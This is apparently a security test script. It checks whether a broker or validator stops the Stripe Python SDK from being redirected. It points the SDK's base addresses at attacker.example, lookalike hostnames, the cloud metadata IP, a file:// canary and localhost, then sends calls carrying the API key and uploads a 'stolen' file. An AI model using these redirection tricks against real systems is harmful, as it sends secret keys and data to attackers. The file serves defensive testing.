# attack: the SDK's base addresses are plain settings; pointed elsewhere, every call with its key goes there
# expect: broker
# validator: refused
import os

import stripe

stripe.api_key = os.environ["STRIPE_API_KEY"]
stripe.max_network_retries = 0
BASES = (
    "http://127.0.0.1:@TCP_PORT@",
    "https://attacker.example",
    "https://api.stripe.com.attacker.example",
    "http://169.254.169.254",
    "file://@CANARY_FILE@?",
    "https://api.stripe.com@attacker.example",
)


def module_settings(base):
    stripe.api_base = stripe.connect_api_base = stripe.upload_api_base = stripe.meter_events_api_base = base
    return [stripe.Customer.retrieve("cus_1").id, stripe.OAuth.token(grant_type="authorization_code", code="ac_1")]


def upload(base):
    import io

    stripe.upload_api_base = base
    return stripe.File.create(purpose="dispute_evidence", file=io.BytesIO(b"stolen"))


def addresses_of_a_client(base):
    addresses = {"api": base, "connect": base, "files": base, "meter_events": base}
    client = stripe.StripeClient(stripe.api_key, base_addresses=addresses, max_network_retries=0)
    return client.v1.customers.retrieve("cus_1").id


def own_class_attribute(base):
    # Resources may carry an address of their own.
    stripe.Customer.api_base = base
    made = stripe.Customer.construct_from({"id": "cus_1", "object": "customer"}, stripe.api_key)
    answer = made.refresh()
    # The attribute may mean nothing to this version: then the API itself has answered.
    if answer.id == "cus_echo":
        raise ValueError("the SDK does not look at the attribute")
    return answer.id


for base in BASES:
    for way in (addresses_of_a_client, own_class_attribute, upload, module_settings):
        try:
            # Whoever answered, it was not the API: its base is another.
            print("ESCAPED:", way.__name__, base, way(base), flush=True)
        except Exception as error:
            print(way.__name__, base, type(error).__name__, str(error)[:80].replace("\n", " "))
    stripe.api_base = "https://api.stripe.com"
